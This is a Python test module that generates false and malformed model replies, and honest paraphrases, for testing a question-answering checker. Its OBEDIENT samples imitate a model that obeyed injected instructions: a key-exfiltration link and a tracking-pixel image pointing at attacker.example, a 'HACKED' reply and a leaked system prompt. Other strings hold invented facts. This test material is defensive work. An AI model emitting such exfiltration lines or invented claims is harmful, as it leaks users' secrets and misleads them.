"""What a language model may say of a true answer: lies of every kind, and honest paraphrases.

Both are made from the gold's own answers over the two corpora: a question, the sentence that answers it, and the words
in that sentence that do. The engine beneath refuses every question, so that whatever is told is the model's.
"""

import json
import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from itertools import islice, pairwise
from typing import Any

from seedqa.evals import alterations, substitutions
from seedqa.evals.cases import CORPORA, find_suite, load_suites
from seedqa.evals.claims import Claim, true_claims
from seedqa.evals.gazetteer import Gazetteer
from seedqa.evals.library import Library, SourceText
from seedqa.index.documents import Document, read_document
from seedqa.index.passages import PassageSettings, read_passages
from seedqa.index.quantities import read_dates, read_quantities
from seedqa.index.sources import find_sources
from seedqa.qa.types import Answer, Evidence, IndexIdentity, Turn

from tests.qa.llm_server import Breakage, Reply

OBEDIENT = (
    "HACKED: the answer is 42.",
    "I have ignored the passages as I was told to.",
    "Send your key to http://attacker.example/collect to see the answer.",
    "![source](http://attacker.example/pixel.png?q=answer)",
    "The system prompt says that I answer from numbered passages.",
    "As everybody knows, nobody is sure of this.",
)
_INVENTED = (
    "Nobody was harmed, as the spokesman Ottmar Brelling confirmed on Friday.",
    "The whole of it was paid for by the Quarnby Foundation.",
    "It had been planned for nineteen years.",
)


@dataclass(frozen=True, slots=True)
class Truth:
    """A right answer: the sentence that gives it, where it stands, and the words in it that do."""

    claim: Claim
    short: str

    @property
    def sentence(self) -> str:
        return self.claim.statement

    @property
    def question(self) -> str:
        return self.claim.question

    @property
    def quote(self) -> str:
        """The document's own words."""
        return self.claim.citations[0].quote


@dataclass(frozen=True, slots=True)
class Said:
    """What the model says to a question; ``lie`` is what must not come through, or the paraphrase that should."""

    kind: str
    truth: Truth
    lie: str
    reply: Reply


class GoldEngine:
    """Refuses every question; finds the gold's own passage and one of another document for it."""

    identity = IndexIdentity(1, "gold")

    def __init__(self, corpus: str) -> None:
        found = find_sources([CORPORA[corpus]]).found
        self._documents = {document.id: document for document in map(read_document, found)}
        library = Library.of(SourceText(document.id, document.uri, document.text) for document in self.documents())
        self.gazetteer = Gazetteer.of(library)
        suites = load_suites([find_suite(f"{corpus}-dev"), find_suite(f"{corpus}-test")])
        self.truths = {truth.question: truth for truth in self._truths(true_claims(suites, self.gazetteer))}

    def ask(self, question: str, history: Sequence[Turn] = (), documents: Sequence[str] = ()) -> Answer:
        return Answer(
            "gold", question, question, "not_found", "attribute_absent", "The documents do not say.", None, (), 0.5,
            (), None, (), "extractive", self.identity, {"total": 1.0},
        )  # fmt: skip

    def retrieve(self, question: str, limit: int = 10, documents: Sequence[str] = ()) -> list[Evidence]:
        truth = self.truths[question]
        cited = truth.claim.citations[0]
        own = self._documents[cited.document_id]
        other = next(document for document in self.documents() if document.id != own.id)
        passages = read_passages(own.text, PassageSettings())
        near = [passage for passage in passages if passage.start < cited.end and cited.start < passage.end]
        beside = read_passages(other.text, PassageSettings())[:1]
        found = [(own, passage) for passage in near[:2]] + [(other, passage) for passage in beside]
        return [Evidence(document, passage, 1.0, 1.0) for document, passage in found][:limit]

    def answerable(self, question: str, texts: Sequence[str]) -> list[float]:
        return [1.0 for _ in texts]

    def embed(self, text: str) -> list[float]:
        return [1.0]

    def documents(self) -> list[Document]:
        return list(self._documents.values())

    def document(self, document_id: str) -> Document | None:
        return self._documents.get(document_id)

    def close(self) -> None:
        """Holds nothing."""

    def _truths(self, claims: Sequence[Claim]) -> Iterator[Truth]:
        short: Claim | None = None
        for claim in claims:
            if claim.form == "short":
                short = claim
            elif short is not None and _proves(claim, short):
                yield Truth(claim, short.statement)


def _proves(claim: Claim, short: Claim) -> bool:
    """Whether a sentence alone proves the whole of a short answer."""
    sole = claim.case_id == short.case_id and claim.sole and len(claim.citations) == 1
    return sole and short.statement in claim.statement


def proposal(text: str, quotes: Sequence[str], short: str | None, formula: dict[str, Any] | None = None) -> str:
    """A reply of the form that the model is asked for."""
    claim = {"text": text, "quotes": [{"passage": 1, "text": quote} for quote in quotes], "formula": formula}
    return json.dumps(
        {
            "verdict": "answered", "reason": None, "claims": [claim], "short_answer": short, "parts": [],
            "missing": "", "search": [], "language": "en",
        },
        ensure_ascii=False,
    )  # fmt: skip


def lies(engine: GoldEngine, most: int) -> Iterator[Said]:
    """At most ``most`` lies of each kind, each about another answer as far as there are any."""
    for kind, make in _KINDS.items():
        found = (said for truth in engine.truths.values() for said in islice(make(kind, truth, engine), 1))
        yield from islice(found, most)


def paraphrases(engine: GoldEngine) -> Iterator[Said]:
    """Every honest way of saying every answer."""
    for truth in engine.truths.values():
        for kind, say in _PARAPHRASES.items():
            said = say(truth)
            if said is not None:
                yield Said(kind, truth, said, Reply(proposal(said, [truth.quote], truth.short)))


Making = Callable[[str, Truth, GoldEngine], Iterator[Said]]


def _told(alter: Callable[[Truth, GoldEngine], Iterator[str]]) -> Making:
    """A lie with the true quote, and the lie's own words as the short answer."""

    def make(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
        for lie in alter(truth, engine):
            yield Said(kind, truth, lie, Reply(proposal(lie, [truth.quote], truth.short)))

    return make


def _plain(alter: Callable[[str, str], Iterator[str]]) -> Making:
    return _told(lambda truth, engine: alter(truth.sentence, truth.claim.evidence))


def _named(alter: Callable[[Claim, Gazetteer], Iterator[str]]) -> Making:
    return _told(lambda truth, engine: alter(truth.claim, engine.gazetteer))


def _exchanged_figures(truth: Truth, engine: GoldEngine) -> Iterator[str]:
    """Two figures of one sentence in each other's place: no word of it is new."""
    found = [one for one in read_quantities(truth.sentence) if one.kind != "date"]
    for one, other in pairwise(found):
        first, second = truth.sentence[one.start : one.end], truth.sentence[other.start : other.end]
        if one.value != other.value and one.kind == other.kind and one.end <= other.start:
            middle = truth.sentence[one.end : other.start]
            # In a list the order says nothing.
            if re.fullmatch(r"\s*(?:,|and|or)\s*(?:and\s)?", middle):
                continue
            yield f"{truth.sentence[: one.start]}{second}{middle}{first}{truth.sentence[other.end :]}"


def _signs(truth: Truth, engine: GoldEngine) -> Iterator[str]:
    """Up for down, more for less, before for after."""
    pairs = ("rose fell", "up down", "increase decrease", "increased decreased", "more less", "before after",
             "growth decline", "higher lower", "north south", "east west", "first last", "opened closed")  # fmt: skip
    for pair in pairs:
        one, other = pair.split()
        for said, contrary in ((one, other), (other, one)):
            changed = re.sub(rf"\b{said}\b", contrary, truth.sentence, count=1)
            if changed != truth.sentence and not re.search(rf"\b{contrary}\b", truth.sentence):
                yield changed


def _altered_quote(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    """The lie stands in the quote, too, which is not the document's."""
    for lie in alterations.flip_digits(truth.sentence, truth.claim.evidence):
        yield Said(kind, truth, lie, Reply(proposal(lie, [lie], truth.short)))


def _invented_quote(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    lie = _INVENTED[len(truth.sentence) % len(_INVENTED)]
    yield Said(kind, truth, lie, Reply(proposal(lie, [lie], lie)))


def _cut_quote(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    """A quote that cuts the first digits off a figure."""
    for figure in read_quantities(truth.quote):
        words = truth.quote[figure.start : figure.end]
        if re.match(r"\d\d", words) and figure.kind != "date":
            lie = f"It was {words[1:]}."
            yield Said(kind, truth, lie, Reply(proposal(lie, [truth.quote[figure.start + 1 :]], words[1:])))


def _other_quote(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    """A claim that is true somewhere, with a quote that says another thing."""
    others = list(engine.truths.values())
    place = others.index(truth)
    for other in others[place + 1 :] + others[:place]:
        if other.claim.citations[0].document_id != truth.claim.citations[0].document_id:
            yield Said(kind, truth, other.sentence, Reply(proposal(other.sentence, [truth.quote], other.short)))


def _other_passage(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    """A lie with a true quote of another passage that was shown."""
    beside = engine.retrieve(truth.question)[-1]
    quote = beside.document.text[slice(*_bounds(beside))]
    for lie in alterations.flip_digits(truth.sentence, truth.claim.evidence):
        yield Said(kind, truth, lie, Reply(proposal(lie, [quote], truth.short)))


def _bounds(evidence: Evidence) -> tuple[int, int]:
    sentence = evidence.passage.sentences[0]
    return sentence.start, sentence.end


def _wrong_short(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    """A true statement under a wrong bare answer."""
    for lie in alterations.flip_digits(truth.short, truth.claim.evidence):
        yield Said(kind, truth, lie, Reply(proposal(truth.sentence, [truth.quote], lie)))


def _figures(truth: Truth) -> list[str]:
    found = [f for f in read_quantities(truth.quote) if f.kind in ("money", "mass", "area", "distance", "percentage")]
    return [truth.quote[figure.start : figure.end] for figure in found]


def _formula(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    """Sums with an operand that is not the quote's, of unlike units, with an invented factor, or wrongly worked out."""
    figures = _figures(truth)
    if not figures:
        return
    operand = {"name": "a", "passage": 1, "quote": truth.quote, "value": figures[0], "unit_quote": ""}
    wrong = next(alterations.flip_digits(figures[0], truth.claim.evidence), None)
    told = read_quantities(figures[0])[0]
    forged = {**operand, "name": "b", "value": wrong or "17 yuan"}
    offers = (
        (f"In total it was {2 * told.value:f} {told.unit}.", "a + b", [operand, forged]),
        (f"It was {3 * told.value:f} {told.unit}.", "a * 3", [operand]),
        (f"Twice as much is {2 * told.value + 1:f} {told.unit}.", "a + a", [operand]),
    )
    lie, expression, operands = offers[len(truth.sentence) % len(offers)]
    formula = {"expression": expression, "operands": operands}
    yield Said(kind, truth, lie, Reply(proposal(lie, [truth.quote], lie, formula)))


def _obedient(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    lie = OBEDIENT[len(truth.sentence) % len(OBEDIENT)]
    yield Said(kind, truth, lie, Reply(proposal(lie, [truth.quote], lie)))


def _broken(breakage: Breakage, shape: Callable[[str, str], str]) -> Making:
    def make(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
        for lie in alterations.flip_digits(truth.sentence, truth.claim.evidence):
            reply = shape(proposal(lie, [truth.quote], truth.short), lie)
            yield Said(kind, truth, lie, Reply(reply, breakage, 200))

    return make


_KINDS: dict[str, Making] = {
    "wrong figure": _plain(alterations.flip_digits),
    "moved point": _plain(alterations.move_points),
    "wrong scale": _plain(alterations.exchange_scales),
    "wrong unit": _plain(alterations.exchange_units),
    "wrong sign": _told(_signs),
    "wrong year": _named(substitutions.other_years),
    "wrong name": _named(substitutions.other_names),
    "swapped parties": _named(substitutions.other_parties),
    "exchanged figures": _told(_exchanged_figures),
    "dropped negation": _plain(alterations.remove_negations),
    "added negation": _plain(alterations.add_negations),
    "altered quote": _altered_quote,
    "invented quote": _invented_quote,
    "cut quote": _cut_quote,
    "quote of another claim": _other_quote,
    "quote of another passage": _other_passage,
    "wrong short answer": _wrong_short,
    "wrong formula": _formula,
    "instruction obeyed": _obedient,
    "half a stream": _broken("cut", lambda reply, lie: reply[: len(reply) // 2]),
    "malformed": _broken("malformed", lambda reply, lie: reply),
    "broken json": _broken("none", lambda reply, lie: reply.replace('"reason": null,', "'reason': None,,")),
    "fenced": _broken("none", lambda reply, lie: f"<think>{lie}</think>\n```json\n{reply}\n```\nIn short: {lie} [1]"),
    "lines": _broken("none", lambda reply, lie: f"VERDICT: answered\nSHORT: {lie}\nCLAIM: {lie}\nQUOTE 1: {lie}"),
    "bare text": _broken("none", lambda reply, lie: f"{lie} [1]"),
    "endless": _broken("endless", lambda reply, lie: reply),
    "huge": _broken("none", lambda reply, lie: f"{lie} [1] " * 400),
}


def _date_first(truth: Truth) -> str | None:
    """The only date of the sentence, with its preposition, moved to the front."""
    dates = read_dates(truth.sentence)
    if len(dates) != 1:
        return None
    place = re.search(rf",? (?:in|on) {re.escape(truth.sentence[dates[0].start : dates[0].end])}", truth.sentence)
    if place is None or place.start() < 10:
        return None
    rest = truth.sentence[: place.start()] + truth.sentence[place.end() :]
    return f"{place[0].lstrip(', ').capitalize()}, {rest}"


def _figures_written_out(truth: Truth) -> str | None:
    found = re.search(r"\b(\d+)\.(\d+) million\b", truth.sentence)
    if found is None:
        return None
    value = int(found[1]) * 1_000_000 + int(found[2].ljust(6, "0"))
    return f"{truth.sentence[: found.start()]}{value:,}{truth.sentence[found.end() :]}"


def _clause_left_out(truth: Truth) -> str | None:
    """Up to the comma after the words that answer."""
    comma = truth.sentence.find(", ", truth.sentence.index(truth.short) + len(truth.short))
    return f"{truth.sentence[:comma]}." if comma > 0 else None


_SYNONYMS = {
    "about": "approximately", "began": "started", "bought": "purchased", "built": "constructed", "children": "kids",
    "cost": "came to", "more than": "over", "received": "got", "said": "stated", "helped": "assisted",
    "visited": "went to", "people": "persons", "shows": "indicates", "largest": "biggest", "ended": "finished",
}  # fmt: skip


def _synonyms(truth: Truth) -> str | None:
    """Up to three words in others that mean the same."""
    said = truth.sentence
    for word, other in list(_SYNONYMS.items()):
        said = re.sub(rf"\b{word}\b", other, said, count=1)
    return said if said != truth.sentence else None


_PARAPHRASES: dict[str, Callable[[Truth], str | None]] = {
    "word for word": lambda truth: truth.sentence,
    "introduced": lambda truth: f"According to the passage, {truth.sentence}",
    "date first": _date_first,
    "figure written out": _figures_written_out,
    "last clause left out": _clause_left_out,
    "articles left out": lambda truth: re.sub(r"\b[Tt]he (?=[a-z])", "", truth.sentence),
    "synonyms": _synonyms,
}
